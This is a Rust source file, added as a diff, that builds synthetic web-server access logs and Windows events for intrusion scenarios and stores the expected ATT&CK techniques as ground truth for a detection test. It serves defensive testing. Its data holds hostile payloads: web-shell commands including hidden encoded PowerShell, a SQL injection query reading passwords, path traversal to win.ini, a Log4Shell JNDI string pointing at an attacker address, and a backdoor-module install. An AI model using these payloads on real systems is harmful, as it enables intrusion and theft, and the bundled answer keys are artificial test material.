@@ -1,0 +1,335 @@
+//! Intrusions, not outages: a web shell whose commands w3wp runs, a scanner
+//! with exploitation attempts, password guessing, a backdoor module and
+//! cleared logs. Their truth names the ATT&CK techniques the security lens
+//! must report; none of them is a failure mode except the cleared logs
+//! (`missing-logs`).
+
+use std::net::Ipv4Addr;
+
+use super::events::{Ev, INFO, WARNING, s};
+use super::{Ctx, SHOP_POOL, SHOP_SITE};
+use crate::bundle::{AccessRow, Channel};
+
+/// The attacker's address.
+const ATTACKER: Ipv4Addr = Ipv4Addr::new(185, 220, 101, 4);
+
+const SYSMON_GUID: &str = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}";
+const SECURITY_GUID: &str = "{54849625-5478-4994-A5BA-3E3B0328C30D}";
+const IIS_CONFIG_GUID: &str = "{DC0B8E51-4863-407A-BC3C-1B479B2978AC}";
+
+/// An access row from the attacker, cloned from the site's first row.
+fn row(
+    ctx: &mut Ctx,
+    host: &str,
+    at: i64,
+    method: &'static str,
+    stem: &str,
+    query: Option<&str>,
+    status: (u16, u32, u32),
+) {
+    let traffic = ctx.traffic_mut(host, SHOP_SITE);
+    let Some(mut r) = traffic.rows.first().cloned() else { return };
+    r.end_ms = at;
+    r.method = method;
+    r.stem = stem.to_string();
+    r.query = query.map(str::to_string);
+    r.status = status;
+    r.client = ATTACKER;
+    r.forwarded_for = None;
+    r.agent = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)";
+    r.taken = 40;
+    traffic.rows.push(r);
+}
+
+fn sort_rows(ctx: &mut Ctx, host: &str) {
+    ctx.traffic_mut(host, SHOP_SITE).rows.sort_by_key(|r: &AccessRow| r.end_ms);
+}
+
+/// A process w3wp started, as Sysmon and Security 4688 record it.
+fn w3wp_child(ctx: &mut Ctx, host: &str, at: i64, image: &str, command: &str) {
+    let w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
+    ctx.event(
+        host,
+        Ev::manifest(
+            Channel::Sysmon,
+            "Microsoft-Windows-Sysmon",
+            SYSMON_GUID,
+            None,
+            1,
+            INFO,
+            at,
+            vec![
+                ("Image", s(image)),
+                ("CommandLine", s(command)),
+                ("User", s(format!("IIS APPPOOL\\{SHOP_POOL}"))),
+                ("ParentImage", s(w3wp)),
+                ("ParentCommandLine", s(format!("{w3wp} -ap \"{SHOP_POOL}\" -v \"v4.0\""))),
+            ],
+        ),
+    );
+    ctx.event(
+        host,
+        Ev::manifest(
+            Channel::Security,
+            "Microsoft-Windows-Security-Auditing",
+            SECURITY_GUID,
+            None,
+            4688,
+            INFO,
+            at + 3,
+            vec![
+                ("SubjectUserName", s(format!("{host}$"))),
+                ("NewProcessName", s(image)),
+                ("CommandLine", s(command)),
+                ("ParentProcessName", s(w3wp)),
+            ],
+        ),
+    );
+}
+
+/// What a healthy day holds that looks like an attack and is not: a search
+/// whose query says `order by`, an administrator recycling a pool with
+/// appcmd.
+pub(super) fn benign_lookalikes(ctx: &mut Ctx) {
+    let host = ctx.web_hosts[0].clone();
+    let at = ctx.at(0.3);
+    let traffic = ctx.traffic_mut(&host, SHOP_SITE);
+    if let Some(mut r) = traffic.rows.first().cloned() {
+        r.end_ms = at;
+        r.stem = "/search".into();
+        r.query = Some("q=red+shoes&sort=price+order+by+desc".into());
+        r.status = (200, 0, 0);
+        traffic.rows.push(r);
+        traffic.rows.sort_by_key(|r: &AccessRow| r.end_ms);
+    }
+    let appcmd = "C:\\Windows\\System32\\inetsrv\\appcmd.exe";
+    ctx.event(
+        &host,
+        Ev::manifest(
+            Channel::Security,
+            "Microsoft-Windows-Security-Auditing",
+            SECURITY_GUID,
+            None,
+            4688,
+            INFO,
+            at + 60_000,
+            vec![
+                ("SubjectUserName", s("adm-web")),
+                ("NewProcessName", s(appcmd)),
+                ("CommandLine", s(format!("{appcmd} list apppools /state:Started"))),
+                ("ParentProcessName", s("C:\\Windows\\System32\\cmd.exe")),
+            ],
+        ),
+    );
+}
+
+/// A web shell dropped in `/aspnet_client/` takes POSTs (never a GET) and
+/// runs commands through w3wp.
+pub(super) fn web_shell(ctx: &mut Ctx) {
+    let host = ctx.web_hosts[0].clone();
+    let from = ctx.at(0.5);
+    let shell = "/aspnet_client/system_web/4_0_30319/update.aspx";
+    let commands = [
+        ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami"),
+        ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c net user"),
+        ("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),
+        (
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "powershell -nop -w hidden -enc SQBFAFgA",
+        ),
+    ];
+    for (i, (image, command)) in commands.iter().enumerate() {
+        let at = from + i as i64 * 90_000;
+        row(ctx, &host, at, "POST", shell, None, (200, 0, 0));
+        w3wp_child(ctx, &host, at - 400, image, command);
+    }
+    sort_rows(ctx, &host);
+    ctx.truth.window =
+        Some(super::Window { start: super::rfc3339(from - 1_000), end: super::rfc3339(from + 300_000) });
+    ctx.truth.lookalikes = vec!["worker-crash", "app-exception", "unexplained"];
+    ctx.truth.techniques = vec!["T1505.003", "T1059.003"];
+    ctx.truth.story = format!(
+        "A web shell dropped at {shell} takes POSTs from {ATTACKER} (never a GET) and runs whoami, net user and an encoded PowerShell as {SHOP_POOL}: Sysmon 1 and Security 4688 show w3wp.exe as their parent."
+    );
+}
+
+/// A scanner walks the site for missing paths and tries SQL injection, path
+/// traversal and Log4Shell along the way.
+pub(super) fn scanner(ctx: &mut Ctx) {
+    let host = ctx.web_hosts[0].clone();
+    let from = ctx.at(0.4);
+    for i in 0..60 {
+        let stem = format!("/{}", ["admin", "backup", "old", "test", "dev", "cgi-bin"][i % 6])
+            + &format!("/probe{i}.aspx");
+        row(ctx, &host, from + i as i64 * 2_000, "GET", &stem, None, (404, 0, 2));
+    }
+    row(
+        ctx,
+        &host,
+        from + 130_000,
+        "GET",
+        "/products.aspx",
+        Some("id=1+UNION+SELECT+name,password+FROM+users--"),
+        (500, 0, 0),
+    );
+    row(
+        ctx,
+        &host,
+        from + 131_000,
+        "GET",
+        "/download.aspx",
+        Some("file=..%2f..%2f..%2fwindows/win.ini"),
+        (400, 0, 0),
+    );
+    row(
+        ctx,
+        &host,
+        from + 132_000,
+        "GET",
+        "/search",
+        Some("q=${jndi:ldap://185.220.101.4:1389/a}"),
+        (200, 0, 0),
+    );
+    sort_rows(ctx, &host);
+    ctx.truth.window =
+        Some(super::Window { start: super::rfc3339(from - 1_000), end: super::rfc3339(from + 133_000) });
+    ctx.truth.lookalikes = vec!["unexplained", "app-exception", "request-limits"];
+    ctx.truth.techniques = vec!["T1595.003", "T1190"];
+    ctx.truth.story = format!(
+        "{ATTACKER} asks for sixty paths that do not exist in two minutes, then tries UNION SELECT, ../ traversal to win.ini and a Log4Shell JNDI string."
+    );
+}
+
+/// One client guesses passwords on the login form.
+pub(super) fn password_guessing(ctx: &mut Ctx) {
+    let host = ctx.web_hosts[0].clone();
+    let from = ctx.at(0.45);
+    for i in 0..40 {
+        row(ctx, &host, from + i as i64 * 4_000, "POST", "/Account/Login", None, (401, 0, 0));
+    }
+    row(ctx, &host, from + 164_000, "POST", "/Account/Login", None, (302, 0, 0));
+    sort_rows(ctx, &host);
+    ctx.truth.window =
+        Some(super::Window { start: super::rfc3339(from - 1_000), end: super::rfc3339(from + 165_000) });
+    ctx.truth.lookalikes = vec!["auth-failure", "unexplained"];
+    ctx.truth.techniques = vec!["T1110"];
+    ctx.truth.story = format!(
+        "{ATTACKER} posts forty passwords to /Account/Login in under three minutes (each answered 401), and the forty-first gets in (302)."
+    );
+}
+
+/// A native backdoor module installed with appcmd, and IIS-Configuration
+/// recording the new global module.
+pub(super) fn backdoor_module(ctx: &mut Ctx) {
+    let host = ctx.web_hosts[0].clone();
+    let at = ctx.at(0.6);
+    let appcmd = "C:\\Windows\\System32\\inetsrv\\appcmd.exe";
+    ctx.event(
+        &host,
+        Ev::manifest(
+            Channel::Security,
+            "Microsoft-Windows-Security-Auditing",
+            SECURITY_GUID,
+            None,
+            4688,
+            INFO,
+            at,
+            vec![
+                ("SubjectUserName", s("adm-backup")),
+                ("NewProcessName", s(appcmd)),
+                (
+                    "CommandLine",
+                    s(format!("{appcmd} install module /name:SharedModule /image:C:\\Windows\\Temp\\sm.dll")),
+                ),
+                ("ParentProcessName", s("C:\\Windows\\System32\\cmd.exe")),
+            ],
+        ),
+    );
+    ctx.event(
+        &host,
+        Ev::manifest(
+            Channel::IisConfiguration,
+            "Microsoft-IIS-Configuration",
+            IIS_CONFIG_GUID,
+            None,
+            29,
+            INFO,
+            at + 800,
+            vec![
+                ("PID", s("4424")),
+                ("EffectiveLocation", s("MACHINE/WEBROOT/APPHOST")),
+                ("Configuration", s("/system.webServer/globalModules/add[@name='SharedModule']")),
+                ("OldValue", s("")),
+                ("NewValue", s("C:\\Windows\\Temp\\sm.dll")),
+            ],
+        ),
+    );
+    // An administrator's routine appcmd: not a detection.
+    ctx.event(
+        &host,
+        Ev::manifest(
+            Channel::Security,
+            "Microsoft-Windows-Security-Auditing",
+            SECURITY_GUID,
+            None,
+            4688,
+            INFO,
+            at - 3_600_000,
+            vec![
+                ("SubjectUserName", s("adm-web")),
+                ("NewProcessName", s(appcmd)),
+                ("CommandLine", s(format!("{appcmd} recycle apppool /apppool.name:{SHOP_POOL}"))),
+                ("ParentProcessName", s("C:\\Windows\\System32\\cmd.exe")),
+            ],
+        ),
+    );
+    ctx.truth.window =
+        Some(super::Window { start: super::rfc3339(at - 1_000), end: super::rfc3339(at + 2_000) });
+    ctx.truth.lookalikes = vec!["recycle-on-demand", "recycle-config-change", "config-error"];
+    ctx.truth.techniques = vec!["T1505.004"];
+    ctx.truth.story = "adm-backup installs a native module from C:\\Windows\\Temp with appcmd, and IIS-Configuration 29 records it in globalModules: every worker now loads it. An hour earlier adm-web recycled ShopPool with appcmd, which is routine.".into();
+}
+
+/// The intruder clears the Security and System logs.
+pub(super) fn log_clearing(ctx: &mut Ctx) {
+    let host = ctx.web_hosts[0].clone();
+    let at = ctx.at(0.7);
+    ctx.event(
+        &host,
+        Ev::manifest(
+            Channel::Security,
+            "Microsoft-Windows-Eventlog",
+            "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}",
+            None,
+            1102,
+            INFO,
+            at,
+            vec![("SubjectUserName", s("adm-backup")), ("SubjectDomainName", s("CONTOSO"))],
+        ),
+    );
+    ctx.event(
+        &host,
+        Ev::manifest(
+            Channel::System,
+            "Microsoft-Windows-Eventlog",
+            "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}",
+            None,
+            104,
+            WARNING,
+            at + 2_000,
+            vec![
+                ("SubjectUserName", s("adm-backup")),
+                ("SubjectDomainName", s("CONTOSO")),
+                ("Channel", s("System")),
+            ],
+        ),
+    );
+    ctx.answer(
+        &["missing-logs"],
+        (at, at + 2_000),
+        (&host, None, None),
+        &["reboot", "unexplained"],
+        "CONTOSO\\adm-backup clears the Security log (1102) and then the System log (104) of the web server: the history of what they did before is gone.",
+    );
+    ctx.truth.techniques = vec!["T1070.001"];
+}
